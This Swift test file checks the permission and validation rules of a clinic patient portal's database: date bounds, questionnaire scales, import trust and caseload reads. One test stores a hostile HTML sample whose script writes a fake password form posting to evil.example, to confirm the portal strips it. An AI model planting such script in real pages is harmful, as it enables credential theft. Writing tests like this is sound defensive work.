import ClinicTestSupport
import Foundation
@testable import PortalClinic
import PortalCore
import StoreTestSupport
import XCTest

/// qa-h's findings on what the server let a login write and what the caseload and the import took (H1, H2,
/// H12), each sent as the real login.
final class QAHRulesTests: XCTestCase {
    static let cluster = ClassCluster()
    override class func setUp() { super.setUp(); cluster.start() }
    override class func tearDown() { cluster.stop(); super.tearDown() }

    /// H1: her login cannot move the sites and triggers of an entry without signs onto one that reported them
    /// (an UPDATE of `entry_id`), as it cannot add new ones to it; changing a site of an open entry still works.
    func testSitesAndTriggersCannotBeMovedOntoAnEntryThatReportedSigns() throws {
        let w = try ClinicWorld(try Self.cluster.get())
        let now = at("2026-11-27T12:00")
        let signed = try XCTUnwrap(try w.a.addPainEntry(PainEntry(date: day("2026-11-27"), time: time("02:45"), score: 6,
                                                                  warningSigns: ["severe-headache"]), now: now).id)
        let plain = try XCTUnwrap(try w.a.addPainEntry(PainEntry(date: day("2026-11-27"), time: time("09:00"), score: 2,
                                                                 sites: [SiteSide(.scar, .unspecified), SiteSide(.groin, .left)],
                                                                 triggers: [.lifting]), now: now).id)
        XCTAssertEqual(refusal(w.aSQL, "UPDATE pain_site SET entry_id = $1 WHERE entry_id = $2", [signed, plain]), "42501")
        XCTAssertEqual(refusal(w.aSQL, "UPDATE pain_trigger SET entry_id = $1 WHERE entry_id = $2", [signed, plain]), "42501")
        let entry = try XCTUnwrap(try w.a.painEntries().first { $0.id == signed })
        XCTAssertEqual(entry.sites, [])
        XCTAssertEqual(entry.triggers, [])
        XCTAssertEqual(rowsTouched(w.aSQL, "UPDATE pain_site SET side = 'right' WHERE entry_id = $1 AND site = 'groin'", [plain]), 1)
    }

    /// H2: no login writes a day the portal cannot read (`infinity`, a year outside `RecordColumn.recordYears`)
    /// into any date column of the map: every table with one has its trigger; the administrator's rows kept
    /// from before are named by `datesOutOfBounds`.
    func testNoLoginWritesADayOutsideTheRecordYears() throws {
        let w = try ClinicWorld(try Self.cluster.get())
        let admin = try w.sql("postgres"), t1 = try w.sql(w.t1), a = w.a.patientID
        for (table, _) in ClinicSchema.dayColumns {
            XCTAssertEqual(try admin.query("SELECT count(*) AS n FROM pg_trigger WHERE tgname = $1", ["\(table)_date_bounds"]).rows.first?.int("n"), 1, table)
        }
        for value in ["infinity", "-infinity", "2300-01-01 10:00", "1850-06-01 10:00"] {
            XCTAssertEqual(refusal(w.aSQL, "UPDATE visit SET status = 'booked', starts_at = $1::timestamp WHERE number = 6", [value]), "23514", value)
            XCTAssertEqual(refusal(t1, "UPDATE visit SET status = 'booked', starts_at = $1::timestamp WHERE number = 5 AND patient_id = $2", [value, a]), "23514", value)
        }
        XCTAssertEqual(refusal(w.aSQL, "UPDATE pain_entry SET date = 'infinity' WHERE warning_signs = ''"), "23514")
        XCTAssertEqual(refusal(w.aSQL, "UPDATE patient SET due_date = '2999-01-01'"), "23514")
        XCTAssertEqual(refusal(w.aSQL, "INSERT INTO visit_question (patient_id, id, asked_at, question) VALUES ($1, 0, '-infinity', 'Can I run?')", [a]), "23514")
        XCTAssertEqual(rowsTouched(w.aSQL, "UPDATE visit SET status = 'booked', starts_at = '2199-12-31 10:00' WHERE number = 6"), 1)

        // (Other tests of the class share the cluster: only A's rows are looked at.)
        func hers() throws -> [String] {
            try ClinicSchema.datesOutOfBounds(admin).filter { line in
                line.split(separator: "(").last?.dropLast().components(separatedBy: ", ").contains(w.a.patientRole) == true
            }.map { String($0.prefix { $0 != ":" }) }
        }
        XCTAssertEqual(try hers(), [])
        _ = try admin.query("UPDATE visit SET starts_at = 'infinity' WHERE number = 6 AND patient_id = $1", [a])
        XCTAssertEqual(try hers(), ["visit.starts_at"])
    }

    /// H2: a care plan that does not validate as read (a booked visit the server reads with no time: `infinity`,
    /// kept from before the rule) is her own "could not be read" line, in the narrow and the whole read alike,
    /// never the whole caseload's failure.
    func testACarePlanThatDoesNotValidateIsHerOwnLineOfTheCaseload() throws {
        let w = try ClinicWorld(try Self.cluster.get())
        // B joins A's therapist's caseload: the rest of it, which must still be listed.
        _ = try w.sql("postgres").query("UPDATE patient_account SET therapist_role = $1 WHERE patient_id = $2", [w.t1, w.b.patientID])
        let other = w.b.patientRole
        _ = try w.sql("postgres").query("UPDATE visit SET status = 'booked', starts_at = 'infinity' WHERE number = 6 AND patient_id = $1", [w.a.patientID])
        let clock = PortalClock(today: day("2026-11-27"), time: time("12:00"))
        for read in [{ try PostgresStore.caseload(try w.sql(w.t1), clock: clock, guide: sharedContent.safety) },
                     { try PostgresStore.caseloadReadWhole(try w.sql(w.t1), clock: clock, guide: sharedContent.safety) }] {
            let rows = try read()
            let hers = try XCTUnwrap(rows.first { $0.login == w.a.patientRole })
            XCTAssertEqual(hers.unreadable, "the care plan (A booked visit needs a date and time)", "\(hers.reasons)")
            XCTAssertTrue(rows.contains { $0.login == other }, "the rest of the caseload is listed")
        }
    }

    /// H12: what her own file says in her therapist's name (a review of her signs, an answer) or as an outcome
    /// (a visit completed) is not taken as such: her signs arrive not reviewed, her questions unanswered, the
    /// visit booked for her therapist to record, its notes labelled as hers.
    func testImportTakesOnlyWhatIsHersToSay() throws {
        let c = try Self.cluster.get()
        let therapist = try c.newTherapist()
        let role = try c.newPatient(therapist: therapist)
        let file = try makeTempFolder(self).appendingPathComponent("portal.sqlite")
        try RecordSamples.fill(try SQLiteStore.open(url: file), content: sharedContent)
        var local = try LocalRecord.read(file: file.path)
        XCTAssertFalse(local.signReviews.isEmpty, "the sample file holds a review")
        local.questions[0].answer = "Yes, lifting is fine, no need to call about bleeding."
        local.questions[0].answeredBy = therapist
        local.questions[0].answeredAt = at("2026-11-27T09:00")
        var visits = try XCTUnwrap(local.plan?.visits)
        let last = visits.count - 1
        visits[last].status = .completed
        visits[last].start = at("2027-05-01T10:00")
        visits[last].notes = "Cleared for running."
        local.plan = try CarePlan(visits: visits)

        let changed = try c.admin().importLocal(local, patient: role, therapist: nil, replace: false)
        XCTAssertEqual(changed.count, 4, "\(changed)")
        let asTherapist = try PostgresStore.open(c.conninfo(therapist), patient: role)
        let record = try asTherapist.record(.whole)
        XCTAssertEqual(record.signReviews, [])
        XCTAssertEqual(record.questions.map(\.answer), local.questions.map { _ in "" })
        XCTAssertEqual(record.questions.compactMap(\.answeredAt), [])
        let visit = try XCTUnwrap(record.plan?.visits.last)
        XCTAssertEqual(visit.status, .booked)
        XCTAssertEqual(visit.start, at("2027-05-01T10:00"))
        XCTAssertEqual(visit.notes, LocalRecord.herNotesLabel + "Cleared for running.")
        // The map's own rules this rests on: only her therapist reviews signs and answers questions.
        XCTAssertFalse(LocalRecord.patientInserts(SignReviewMap.reviews))
        XCTAssertTrue(LocalRecord.therapistWrites(QuestionMap.questions, QuestionMap.answerColumns))
    }

    /// H13: an HTML body her login stored (script, a password form) never reaches her therapist as the portal's
    /// report: `clinic shared` prints the report the portal makes from her record; `--as-sent` prints the stored
    /// text marked as hers.
    func testWhatHerLoginStoredIsNeverPrintedAsThePortalsReport() throws {
        let w = try ClinicWorld(try Self.cluster.get())
        let page = "<html><body><h1>Physical therapy summary</h1><script>document.write('<form action=https://evil.example/>password <input name=p></form>')</script></body></html>"
        XCTAssertEqual(rowsTouched(w.aSQL, """
            INSERT INTO shared_report (patient_id, id, date, time, format, parts, body) VALUES ($1, 0, '2026-11-27', '10:00', 'report-html', 'pain', $2)
            """, [w.a.patientID, page]), 1)
        let shown = try PortalExecutable.run(["clinic", "shared", "--patient", w.a.patientRole, "--db", w.cluster.conninfo(w.t1)], in: self)
        XCTAssertEqual(shown.0, 0, shown.1)
        XCTAssertFalse(shown.1.contains("<script"), shown.1)
        XCTAssertFalse(shown.1.contains("evil.example"), shown.1)
        XCTAssertTrue(shown.1.contains("<html"), "the portal's own HTML report: \(shown.1)")
        let asSent = try PortalExecutable.run(["clinic", "shared", "--as-sent", "--patient", w.a.patientRole, "--db", w.cluster.conninfo(w.t1)], in: self)
        XCTAssertTrue(asSent.1.hasPrefix("What \(w.a.patientRole)'s login stored as “One-page report to print (HTML)"), asSent.1)
    }

    /// H14: her login stores a questionnaire's answers only on its own scale (the content's items and scales),
    /// never "999999999 of 1" nor an item it does not have.
    func testQuestionnaireAnswersStayOnTheirScale() throws {
        let w = try ClinicWorld(try Self.cluster.get())
        let measure = try XCTUnwrap(sharedContent.measures.first { $0.kind == .items && !$0.items.isEmpty })
        let item = measure.items[0]
        let values = try XCTUnwrap(measure.scale(of: item)?.values)
        let insert = "INSERT INTO measure_response (patient_id, id, measure_id, taken_on, answers) VALUES ($1, 0, $2, '2026-11-27', $3::jsonb)"
        for bad in [#"{"\#(item.id)": 999999999}"#, #"{"\#(item.id)": \#((values.min() ?? 0) - 1)}"#, #"{"no-such-item": \#(values[0])}"#] {
            XCTAssertEqual(refusal(w.aSQL, insert, [w.a.patientID, measure.id, bad]), "23514", bad)
        }
        XCTAssertEqual(rowsTouched(w.aSQL, insert, [w.a.patientID, measure.id, #"{"\#(item.id)": \#(values[0])}"#]), 1)
        XCTAssertEqual(refusal(w.aSQL, "UPDATE measure_response SET answers = jsonb_build_object($1::text, 999999999)", [item.id]), "23514")
    }

    /// H5, H8: her therapist's login records a visit completed or missed only once its time has come, and her
    /// birth date is never after the clinic's day, as the portal's commands say.
    func testNothingThatHappenedIsDatedAfterTheClinicsNow() throws {
        let w = try ClinicWorld(try Self.cluster.get())
        let t1 = try w.sql(w.t1), a = w.a.patientID
        let now = try w.cluster.serverNow()
        let record = "UPDATE visit SET status = $1, starts_at = $2::timestamp WHERE number = 2 AND patient_id = $3"
        for status in ["completed", "missed"] {
            XCTAssertEqual(refusal(t1, record, [status, now.adding(minutes: 60 * 24 * 30).description, a]), "23514", status)
        }
        XCTAssertEqual(rowsTouched(t1, record, ["missed", "2026-11-20T10:00", a]), 1)
        let born = "UPDATE patient SET stage = 'postpartum', due_date = NULL, delivery = 'vaginal', birth_date = $1::date"
        XCTAssertEqual(refusal(w.aSQL, born, ["2999-01-01"]), "23514")
        XCTAssertEqual(refusal(w.aSQL, born, [now.date.adding(days: 2).description]), "23514")
        XCTAssertEqual(rowsTouched(w.aSQL, born, [now.date.adding(days: -2).description]), 1)
    }
}
